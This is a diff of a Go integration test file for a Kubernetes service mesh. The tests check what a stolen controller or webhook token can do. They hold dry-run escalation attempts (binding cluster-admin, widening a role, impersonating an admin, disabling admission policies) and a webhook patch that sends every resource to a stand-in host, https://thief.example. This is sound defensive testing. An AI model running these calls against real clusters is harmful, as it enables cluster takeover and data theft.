@@ -21,26 +21,26 @@ import (
 	"github.com/isthmus-mesh/isthmus/test/framework/environment"
 )
 
-// tick is how often a condition is looked at.
-const tick = 50 * time.Millisecond
+// pollInterval is how often a condition is looked at.
+const pollInterval = 50 * time.Millisecond
 
-var dry = []string{"All"}
+var dryRun = []string{"All"}
 
 // TestStolenControllerToken tries what test/integration/rbac does not: by the real
 // token, on the control plane with everything running.
 func TestStolenControllerToken(t *testing.T) {
-	servers(t)
-	ns := world.CreateNamespace(t, nil, "edge", "other")
-	pod := world.CreateEdge(t, ns, "front", "edge")
+	sharedServers(t)
+	ns := env.CreateNamespace(t, nil, "edge", "other")
+	pod := env.CreateEdge(t, ns, "front", "edge")
 	awaitSecret(t, ns)
-	controller := thief(t, environment.Namespace, "isthmus-controller")
-	_, err := world.Kube.CoreV1().ServiceAccounts("default").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "target"}}, metav1.CreateOptions{})
+	controller := stolenClient(t, environment.Namespace, "isthmus-controller")
+	_, err := env.Kube.CoreV1().ServiceAccounts("default").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "target"}}, metav1.CreateOptions{})
 	require.NoError(t, err)
 	toPod := &authenticationv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: pod.Name, UID: pod.UID}
 
 	t.Run("it gets what the CA takes, for every account of an opted-in namespace", func(t *testing.T) {
 		for _, account := range []string{"edge", "other"} {
-			assert.NoError(t, mint(ns, account, nil, "istio-ca")(t.Context(), controller))
+			assert.NoError(t, createToken(ns, account, nil, "istio-ca")(t.Context(), controller))
 		}
 	})
 	t.Run("it reads the Secrets of edges", func(t *testing.T) {
@@ -50,15 +50,15 @@ func TestStolenControllerToken(t *testing.T) {
 	// configurations of webhooks: docs/security.md says what follows.
 	t.Run("it has the webhook sent what it likes, where the certificate is self-managed", func(t *testing.T) {
 		patch := `[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]},{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example"}}]`
-		_, err := controller.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(t.Context(), "isthmus-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dry})
+		_, err := controller.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(t.Context(), "isthmus-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dryRun})
 		assert.NoError(t, err)
 	})
-	tryAll(t, controller, map[string]attempt{
-		"a token for the API server, bound to a pod": mint(ns, "edge", toPod, "https://kubernetes.default.svc"),
-		"a token for the default, bound to a pod":    mint(ns, "edge", toPod),
-		"a token of the controller itself":           mint(environment.Namespace, "isthmus-controller", nil),
-		"a token of the controller for the CA":       mint(environment.Namespace, "isthmus-controller", nil, "istio-ca"),
-		"a token elsewhere":                          mint("default", "target", nil, "istio-ca"),
+	expectAllForbidden(t, controller, map[string]attempt{
+		"a token for the API server, bound to a pod": createToken(ns, "edge", toPod, "https://kubernetes.default.svc"),
+		"a token for the default, bound to a pod":    createToken(ns, "edge", toPod),
+		"a token of the controller itself":           createToken(environment.Namespace, "isthmus-controller", nil),
+		"a token of the controller for the CA":       createToken(environment.Namespace, "isthmus-controller", nil, "istio-ca"),
+		"a token elsewhere":                          createToken("default", "target", nil, "istio-ca"),
 		"list Secrets":                               listSecrets(ns),
 		"list Secrets of all":                        listSecrets(""),
 		"read the mesh's CA":                         readSecret("istio-system", "istio-ca-secret"),
@@ -78,20 +78,20 @@ func TestStolenControllerToken(t *testing.T) {
 		"bind for the cluster": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
 				ObjectMeta: metav1.ObjectMeta{Name: "mine"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
-			}, metav1.CreateOptions{DryRun: dry})
+			}, metav1.CreateOptions{DryRun: dryRun})
 			return err
 		},
 		"widen its own role": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.RbacV1().ClusterRoles().Patch(ctx, "isthmus-controller", types.JSONPatchType,
-				[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`), metav1.PatchOptions{DryRun: dry})
+				[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
 		"act as someone else": func(ctx context.Context, _ *kubernetes.Clientset) error {
-			token, err := world.CreateToken(ctx, environment.Namespace, "isthmus-controller")
+			token, err := env.CreateToken(ctx, environment.Namespace, "isthmus-controller")
 			if err != nil {
 				return err
 			}
-			config := world.ConfigForToken(token)
+			config := env.ConfigForToken(token)
 			config.Impersonate.UserName = "kubernetes-admin"
 			k, err := kubernetes.NewForConfig(config)
 			if err != nil {
@@ -100,29 +100,29 @@ func TestStolenControllerToken(t *testing.T) {
 			return listSecrets("")(ctx, k)
 		},
 		"patch another webhook's configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
-			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "istio-sidecar-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dry})
+			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "istio-sidecar-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
 		"make a webhook's configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx,
-				&admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "mine"}}, metav1.CreateOptions{DryRun: dry})
+				&admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "mine"}}, metav1.CreateOptions{DryRun: dryRun})
 			return err
 		},
 		"take the webhook's configuration away": func(ctx context.Context, k *kubernetes.Clientset) error {
-			return k.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "isthmus-injector", metav1.DeleteOptions{DryRun: dry})
+			return k.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "isthmus-injector", metav1.DeleteOptions{DryRun: dryRun})
 		},
 		"take the policy away": func(ctx context.Context, k *kubernetes.Clientset) error {
-			return k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dry})
+			return k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dryRun})
 		},
 		"weaken the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
-			_, err := k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Patch(ctx, "isthmus-controller-tokens", types.MergePatchType, []byte(`{"spec":{"failurePolicy":"Ignore"}}`), metav1.PatchOptions{DryRun: dry})
+			_, err := k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Patch(ctx, "isthmus-controller-tokens", types.MergePatchType, []byte(`{"spec":{"failurePolicy":"Ignore"}}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
 		"unbind the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
-			return k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dry})
+			return k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dryRun})
 		},
 		"have the policy warn only": func(ctx context.Context, k *kubernetes.Clientset) error {
-			_, err := k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Patch(ctx, "isthmus-controller-tokens", types.MergePatchType, []byte(`{"spec":{"validationActions":["Warn"]}}`), metav1.PatchOptions{DryRun: dry})
+			_, err := k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Patch(ctx, "isthmus-controller-tokens", types.MergePatchType, []byte(`{"spec":{"validationActions":["Warn"]}}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
 	})
@@ -130,35 +130,35 @@ func TestStolenControllerToken(t *testing.T) {
 
 // TestStolenWebhookToken: the webhook's account reads, and writes nothing.
 func TestStolenWebhookToken(t *testing.T) {
-	servers(t)
-	ns := world.CreateNamespace(t, nil, "edge")
-	world.CreateEdge(t, ns, "front", "edge")
+	sharedServers(t)
+	ns := env.CreateNamespace(t, nil, "edge")
+	env.CreateEdge(t, ns, "front", "edge")
 	awaitSecret(t, ns)
-	webhook := thief(t, environment.Namespace, "isthmus-webhook")
+	webhook := stolenClient(t, environment.Namespace, "isthmus-webhook")
 	t.Run("it reads the CA of its own certificate, with which it can be the webhook and nobody else", func(t *testing.T) {
 		assert.NoError(t, readSecret(environment.Namespace, "isthmus-webhook-ca")(t.Context(), webhook))
 	})
 	for _, where := range []string{ns, environment.Namespace, "istio-system", "kube-system"} {
-		for _, rule := range rules(t, webhook, where) {
+		for _, rule := range permissions(t, webhook, where) {
 			for verb := range strings.SplitSeq(strings.Fields(rule)[0], ",") {
 				assert.Contains(t, []string{"get", "list", "watch"}, verb, "%s in %s", rule, where)
 			}
 		}
 	}
-	tryAll(t, webhook, map[string]attempt{
+	expectAllForbidden(t, webhook, map[string]attempt{
 		"read an edge's Secret":     readSecret(ns, "istio-certs"),
 		"list Secrets":              listSecrets(environment.Namespace),
 		"read the mesh's CA":        readSecret("istio-system", "istio-ca-secret"),
-		"a token of an edge":        mint(ns, "edge", nil, "istio-ca"),
+		"a token of an edge":        createToken(ns, "edge", nil, "istio-ca"),
 		"create a pod":              createPod(ns),
 		"label a namespace":         patchNamespace("default", `{"metadata":{"labels":{"isthmus.dev/injection":"enabled"}}}`),
 		"bind the publisher's role": createBinding(ns, "isthmus-publisher", "isthmus-publisher"),
 		"change its CA": func(ctx context.Context, k *kubernetes.Clientset) error {
-			_, err := k.CoreV1().Secrets(environment.Namespace).Patch(ctx, "isthmus-webhook-ca", types.MergePatchType, []byte(`{"data":{}}`), metav1.PatchOptions{DryRun: dry})
+			_, err := k.CoreV1().Secrets(environment.Namespace).Patch(ctx, "isthmus-webhook-ca", types.MergePatchType, []byte(`{"data":{}}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
 		"send pods elsewhere": func(ctx context.Context, k *kubernetes.Clientset) error {
-			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "isthmus-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dry})
+			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "isthmus-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
 	})
@@ -169,7 +169,7 @@ func createBinding(namespace, name, role string) attempt {
 		_, err := k.RbacV1().RoleBindings(namespace).Create(ctx, &rbacv1.RoleBinding{
 			ObjectMeta: metav1.ObjectMeta{Name: name}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
 			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "edge", Namespace: namespace}},
-		}, metav1.CreateOptions{DryRun: dry})
+		}, metav1.CreateOptions{DryRun: dryRun})
 		return err
 	}
 }
@@ -178,12 +178,12 @@ func createBinding(namespace, name, role string) attempt {
 // brings: who may read Secrets of the namespace may read this one. The controller
 // manager, which does not run here, puts view and edit together from these two.
 func TestWhoReadsTheKey(t *testing.T) {
-	servers(t)
-	ns := world.CreateNamespace(t, nil, "edge", "viewer", "editor", "neighbour")
-	world.CreateEdge(t, ns, "front", "edge")
+	sharedServers(t)
+	ns := env.CreateNamespace(t, nil, "edge", "viewer", "editor", "neighbour")
+	env.CreateEdge(t, ns, "front", "edge")
 	awaitSecret(t, ns)
 	for account, role := range map[string]string{"viewer": "system:aggregate-to-view", "editor": "system:aggregate-to-edit"} {
-		_, err := world.Kube.RbacV1().RoleBindings(ns).Create(t.Context(), &rbacv1.RoleBinding{
+		_, err := env.Kube.RbacV1().RoleBindings(ns).Create(t.Context(), &rbacv1.RoleBinding{
 			ObjectMeta: metav1.ObjectMeta{Name: account}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
 			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: account, Namespace: ns}},
 		}, metav1.CreateOptions{})
@@ -198,18 +198,18 @@ func TestWhoReadsTheKey(t *testing.T) {
 		for _, verb := range []string{"get", "list", "watch"} {
 			want := reads && (verb == "get" || account[1] != "isthmus-controller")
 			assert.EventuallyWithT(t, func(c *assert.CollectT) {
-				review, err := world.Kube.AuthorizationV1().SubjectAccessReviews().Create(t.Context(), &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
+				review, err := env.Kube.AuthorizationV1().SubjectAccessReviews().Create(t.Context(), &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
 					User: "system:serviceaccount:" + account[0] + ":" + account[1], Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + account[0], "system:authenticated"},
 					ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: ns, Verb: verb, Resource: "secrets", Name: "istio-certs"},
 				}}, metav1.CreateOptions{})
 				if assert.NoError(c, err) {
 					assert.Equal(c, want, review.Status.Allowed, "%v %s", account, verb)
 				}
-			}, patience, tick)
+			}, timeout, pollInterval)
 		}
 	}
 	t.Run("no role of the chart adds to the roles of Kubernetes", func(t *testing.T) {
-		list, err := world.Kube.RbacV1().ClusterRoles().List(t.Context(), metav1.ListOptions{LabelSelector: "app.kubernetes.io/name=isthmus"})
+		list, err := env.Kube.RbacV1().ClusterRoles().List(t.Context(), metav1.ListOptions{LabelSelector: "app.kubernetes.io/name=isthmus"})
 		require.NoError(t, err)
 		require.NotEmpty(t, list.Items)
 		text, err := json.Marshal(list)
